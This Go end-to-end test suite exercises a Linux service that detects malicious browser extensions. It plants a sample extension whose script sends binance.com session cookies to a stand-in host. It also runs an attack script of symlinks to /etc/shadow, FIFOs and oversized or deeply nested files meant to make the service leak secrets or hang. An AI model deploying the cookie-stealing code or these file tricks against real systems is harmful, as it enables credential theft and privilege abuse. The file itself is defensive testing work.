//go:build linux

package e2e

import (
	"archive/zip"
	"encoding/json"
	"fmt"
	"io"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"
)

// What is planted is an extension that sends a session's cookies away. It contacts nobody but a name that cannot exist.
const (
	plantedManifest = `{"manifest_version":3,"name":"Rate Helper","version":"1.0","permissions":["cookies"],` +
		`"host_permissions":["https://*.binance.com/*","https://collect.example/*"],"background":{"service_worker":"bg.js"}}`
	plantedCode = `chrome.cookies.getAll({domain: "binance.com"}, (all) => fetch("https://collect.example/", {method: "POST", body: JSON.stringify(all)}));` + "\n"
)

// machineStatus is `extwatch status --json`, as far as the tests look.
type machineStatus struct {
	Running, Ready                                              bool
	Users, Profiles, Extensions, Suspicious, Malicious, Blocked int
	Unreadable                                                  int
}

func (b *box) status(t *testing.T) (s machineStatus, code int) {
	t.Helper()
	out, errs, code := b.all("extwatch", "status", "--json")
	if err := json.Unmarshal([]byte(out), &s); err != nil {
		t.Fatalf("status: exit %d %v\n%s%s", code, err, out, errs)
	}
	return s, code
}

// property asks systemd for one property of the service.
func (b *box) property(t *testing.T, name string) string {
	t.Helper()
	return strings.TrimSpace(b.must(t, "systemctl", "show", "-P", name, "extwatch"))
}

// plant installs an extension in a user's Chromium profile as that user.
func (b *box) plant(t *testing.T, user, id, manifest, code string) {
	t.Helper()
	script := `set -e
umask 077
p=~/.config/chromium/Default
mkdir -p $p/Extensions/Temp
[ -e ~/.config/chromium/"Local State" ] || echo '{}' > ~/.config/chromium/"Local State"
[ -e $p/Preferences ] || echo '{}' > $p/Preferences
mkdir $p/Extensions/Temp/x
printf %s "$2" > $p/Extensions/Temp/x/manifest.json
printf %s "$3" > $p/Extensions/Temp/x/bg.js
mkdir $p/Extensions/$1
mv $p/Extensions/Temp/x $p/Extensions/$1/1.0_0`
	if _, errs, code := b.as(user, "/bin/bash", "-c", "export HOME=/home/"+user+"; "+script, "plant", id, manifest, code); code != 0 {
		t.Fatalf("plant: exit %d\n%s", code, errs)
	}
}

// The life of the service on a real systemd: installed, it finds a thief in a user's profile, warns that user on the own
// session bus, opens the page in the own session when the warning is clicked (the browser and the block are in
// TestTheWholeChain), survives a kill without
// telling anything again, reads nothing that the user may not read, stops in time, and leaves the machine as it was.
func TestServiceUnderSystemd(t *testing.T) {
	b := boot(t)
	before := b.must(t, "find", "/etc", "/usr", "/var/lib", "/home", "/run/systemd/system", "-xdev", "-not", "-path", "/var/lib/systemd/*")
	ada := b.seat(t, "ada")
	ada.screen("760x300")
	ada.record()
	ada.opens()
	b.must(t, "useradd", "-m", "-s", "/bin/bash", "bob")

	t.Log(b.must(t, "extwatch", "service", "install"))
	if state := b.property(t, "ActiveState"); state != "active" {
		t.Fatalf("the service is %s\n%s", state, b.journal())
	}
	b.security(t)

	p := newProduct(t)
	begun := time.Now()
	b.plant(t, "ada", p.id, plantedManifest, plantedCode)
	waitFor(t, "the finding in the status", 20*time.Second, func() bool {
		s, code := b.status(t)
		return code == 3 && s.Malicious == 1 && s.Profiles == 1
	})
	t.Logf("planted to status: %v", time.Since(begun).Round(time.Millisecond))
	out, _ := b.run("extwatch", "status")
	t.Logf("status:\n%s", out)
	waitFor(t, "what the code does", 20*time.Second, func() bool {
		out, _ := b.run("extwatch", "history", p.id)
		return strings.Contains(out, "session-cookie-theft")
	})
	out, _ = b.run("extwatch", "history", p.id)
	t.Logf("history:\n%s", out)
	if out, _, _ := b.as("bob", "extwatch", "history", p.id); strings.Contains(out, "Rate Helper") {
		t.Errorf("bob sees what ada has installed:\n%s", out)
	}
	if out, _, _ := b.as("ada", "extwatch", "history"); !strings.Contains(out, "Rate Helper") {
		t.Errorf("ada does not see her own extension:\n%s", out)
	}
	ada.warnedAndOpens()
	b.attacks(t)
	told := ada.fresh()
	b.crash(t)
	if now := ada.fresh(); now != told { // what was on the screen is shown again in its own place, for its buttons
		t.Errorf("%d new notifications after the crash, %d before it\n%s", now, told, ada.bus())
	}
	b.stopAndUninstall(t, before)
	if t.Failed() {
		t.Log(b.journal())
	}
}

// security holds the unit to the score that we promise.
func (b *box) security(t *testing.T) {
	t.Helper()
	out := b.must(t, "systemd-analyze", "security", "extwatch", "--no-pager")
	m := regexp.MustCompile(`Overall exposure level for extwatch.service: ([0-9.]+)`).FindStringSubmatch(out)
	if m == nil {
		t.Fatalf("systemd-analyze says:\n%s", out)
	}
	t.Log(m[0])
	if score, err := strconv.ParseFloat(m[1], 64); err != nil || score > 3 {
		t.Errorf("the exposure is %s, want at most 3.0\n%s", m[1], out)
	}
}

// shadowMark stands in /etc/shadow of the machine, and may stand nowhere else.
const shadowMark = "extwatchmark0123456789"

// attackScript is what a user may put in the own profile to make the service read for them, hang or fall.
const attackScript = `set -e
e=/home/bob/.config/chromium/Default/Extensions
mkdir -p $e
echo '{}' > /home/bob/.config/chromium/"Local State"
ln -s /etc/shadow /home/bob/.config/chromium/Default/Preferences
at() { x=$e/$(printf "%032d" 0 | tr 0 $1)/1.0_0; mkdir -p $x; }
at a; ln -s /etc/shadow $x/manifest.json
at b; mkfifo $x/manifest.json
at c; printf %s "$1" > $x/manifest.json; mkfifo $x/bg.js
mkdir $e/dddddddddddddddddddddddddddddddd; ln -s /root $e/dddddddddddddddddddddddddddddddd/1.0_0
at e; printf %s "$1" > $x/manifest.json; ln -s /etc/shadow $x/bg.js
at f; ln -s /dev/zero $x/manifest.json
at g; printf %s "$1" > $x/manifest.json; ln -s /dev/zero $x/bg.js
at h; truncate -s 20G $x/manifest.json
at i; printf %s "$1" > $x/manifest.json; truncate -s 20G $x/bg.js
at j; (yes '{"a":' | head -n 300000 | tr -d '\n') > $x/manifest.json
at k; printf %s "$1" > $x/manifest.json; deep=$(printf 'd/%.0s' $(seq 600)); mkdir -p $x/$deep; echo x > $x/${deep}deep.js
`

// attacks plants each of them, and wants each reported, nothing of /etc/shadow anywhere, and a service that goes on.
func (b *box) attacks(t *testing.T) {
	t.Helper()
	b.must(t, "usermod", "-p", "$6$"+shadowMark, "root")
	restarts := b.property(t, "NRestarts")
	if _, errs, code := b.as("bob", "/bin/bash", "-c", attackScript, "attack", plantedManifest); code != 0 {
		t.Fatalf("attack: exit %d\n%s", code, errs)
	}
	q := newProduct(t)
	begun := time.Now()
	b.plantElsewhere(t, "ada", q.id, strings.ReplaceAll(plantedManifest, "Rate Helper", "After The Attack"))
	waitFor(t, "an extension that arrives during the attack", 20*time.Second, func() bool {
		out, _ := b.run("extwatch", "history", q.id)
		return strings.Contains(out, "After The Attack")
	})
	t.Logf("seen during the attack after %v", time.Since(begun).Round(time.Millisecond))
	for _, letter := range "abcdefghijk" {
		id, said := strings.Repeat(string(letter), 32), ""
		for end := time.Now().Add(30 * time.Second); said == "" && time.Now().Before(end); time.Sleep(100 * time.Millisecond) {
			for line := range strings.Lines(b.journal()) {
				if (strings.Contains(line, "msg=problem") || strings.Contains(line, "rule=unreadable")) && strings.Contains(line, id) {
					said = strings.TrimSpace(line)
				}
			}
		}
		if said == "" {
			out, _ := b.run("extwatch", "history", id)
			t.Errorf("nobody is told of the attack %c: %s", letter, out)
		}
		t.Log(said)
	}
	if !strings.Contains(b.journal(), "/home/bob/.config/chromium/Default/Preferences") {
		t.Error("nobody is told that the preferences are a link")
	}
	for _, id := range []string{"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa", "eeeeeeeeeeeeeeeeeeeeeeeeeeeeeeee"} { // evidence may not hold it either
		b.run("extwatch", "block", id)
		b.run("extwatch", "unblock", id)
	}
	b.noShadow(t)
	for _, cmd := range [][]string{{"journalctl", "--no-pager", "-o", "cat"}, {"extwatch", "history", "--json"}, {"extwatch", "status", "--json"}} {
		if out, _ := b.run(cmd...); strings.Contains(out, shadowMark) {
			t.Errorf("%q shows /etc/shadow", cmd)
		}
	}
	if now := b.property(t, "NRestarts"); now != restarts {
		t.Errorf("the service was brought down: %s restarts, before %s\n%s", now, restarts, b.journal())
	}
}

// noShadow looks for the mark in what the service has written, evidence too.
func (b *box) noShadow(t *testing.T) {
	t.Helper()
	if out, _ := b.run("grep", "-rlaF", shadowMark, "/var/lib/extwatch", "/run/extwatch", "/tmp"); out != "" {
		t.Errorf("what stands in /etc/shadow stands in %s", out)
	}
	packages, err := filepath.Glob(fmt.Sprintf("/proc/%d/root/var/lib/extwatch/evidence/*.zip", b.leader))
	if err != nil || len(packages) == 0 {
		t.Errorf("no evidence was kept: %v", err)
	}
	for _, name := range packages {
		z, err := zip.OpenReader(name)
		if err != nil {
			t.Fatal(err)
		}
		defer z.Close()
		for _, f := range z.File {
			r, err := f.Open()
			if err != nil {
				t.Fatal(err)
			}
			data, err := io.ReadAll(io.LimitReader(r, 1<<20))
			r.Close()
			if err != nil || strings.Contains(string(data), shadowMark) {
				t.Errorf("the evidence %s: %s shows /etc/shadow, or %v", name, f.Name, err)
			}
		}
	}
}

// plantElsewhere puts a second extension into a profile that is there.
func (b *box) plantElsewhere(t *testing.T, user, id, manifest string) {
	t.Helper()
	b.plant(t, user, id, manifest, plantedCode)
}

// crash kills the service: it comes back, knows what it knew, and finds nothing new.
func (b *box) crash(t *testing.T) {
	t.Helper()
	was, _ := b.status(t)
	pid := b.property(t, "MainPID")
	b.must(t, "kill", "-9", pid)
	begun := time.Now()
	waitFor(t, "the service to come back", 30*time.Second, func() bool {
		if now := b.property(t, "MainPID"); now == pid || now == "0" {
			return false
		}
		s, _ := b.status(t)
		return s.Ready
	})
	t.Logf("back and ready %v after kill -9", time.Since(begun).Round(time.Millisecond))
	now, code := b.status(t)
	if now.Malicious != was.Malicious || code != 3 {
		t.Errorf("after the crash: %+v exit %d, before: %+v", now, code, was)
	}
	log := b.journal()
	for line := range strings.Lines(log) {
		if strings.Contains(line, "msg=finding") && strings.Count(log, line) > 1 {
			t.Errorf("told twice: %s", line)
		}
	}
}

// stopAndUninstall leaves what was there before, and what the service remembers.
func (b *box) stopAndUninstall(t *testing.T, before string) {
	t.Helper()
	// The service has a network as long as the settings name another machine.
	allowed := func() string {
		return strings.TrimSpace(b.must(t, "systemctl", "show", "-P", "IPAddressAllow", "extwatch"))
	}
	if got := strings.Fields(allowed()); len(got) != 2 || !slices.Contains(got, "127.0.0.0/8") || !slices.Contains(got, "::1/128") { // in any order
		t.Errorf("without an output it may reach %q", got)
	}
	b.must(t, "/bin/bash", "-c", "mkdir -p /etc/extwatch && printf 'outputs:\\n  syslog: udp://192.0.2.1:514\\n' > /etc/extwatch/config.yml")
	b.must(t, "systemctl", "reload", "extwatch")
	if got := allowed(); !strings.Contains(got, "0.0.0.0/0") {
		t.Errorf("with an output it may reach %q\n%s", got, b.journal())
	}
	b.must(t, "rm", "-r", "/etc/extwatch")
	b.must(t, "systemctl", "reload", "extwatch")
	if got := allowed(); strings.Contains(got, "0.0.0.0/0") {
		t.Errorf("without the output it still may reach %q", got)
	}
	waitFor(t, "the reload", 10*time.Second, func() bool { return strings.Contains(b.journal(), "read again") })
	begun := time.Now()
	b.must(t, "extwatch", "service", "stop")
	if took := time.Since(begun); took > 5*time.Second {
		t.Errorf("the stop took %v", took)
	} else {
		t.Logf("stopped in %v", took.Round(time.Millisecond))
	}
	if result := b.property(t, "Result"); result != "success" {
		t.Errorf("it ended with %s\n%s", result, b.journal())
	}
	if _, code := b.run("extwatch", "status"); code != 1 {
		t.Errorf("status of a stopped service: exit %d, want 1", code)
	}
	t.Log(b.must(t, "extwatch", "service", "uninstall", "--purge"))
	b.must(t, "loginctl", "disable-linger", "ada")
	b.run("loginctl", "terminate-user", "ada")
	waitFor(t, "the session to end", 20*time.Second, func() bool { _, code := b.run("pgrep", "-u", "ada"); return code != 0 })
	b.must(t, "userdel", "-r", "ada")
	b.must(t, "userdel", "-r", "bob")
	after := b.must(t, "find", "/etc", "/usr", "/var/lib", "/home", "/run/systemd/system", "-xdev", "-not", "-path", "/var/lib/systemd/*")
	if diff := difference(before, after); len(diff) > 0 {
		t.Errorf("not as before: %q", diff)
	}
}

// difference lists the lines that only one of two texts has. What useradd keeps as a copy of what was before is its own.
func difference(a, b string) []string {
	count := map[string]int{}
	for line := range strings.Lines(a) {
		count[strings.TrimSpace(line)]++
	}
	for line := range strings.Lines(b) {
		count[strings.TrimSpace(line)]--
	}
	var diff []string
	for line, n := range count {
		if n != 0 && !(strings.HasPrefix(line, "/etc/") && strings.HasSuffix(line, "-") && filepath.Dir(line) == "/etc") {
			diff = append(diff, line)
		}
	}
	return diff
}
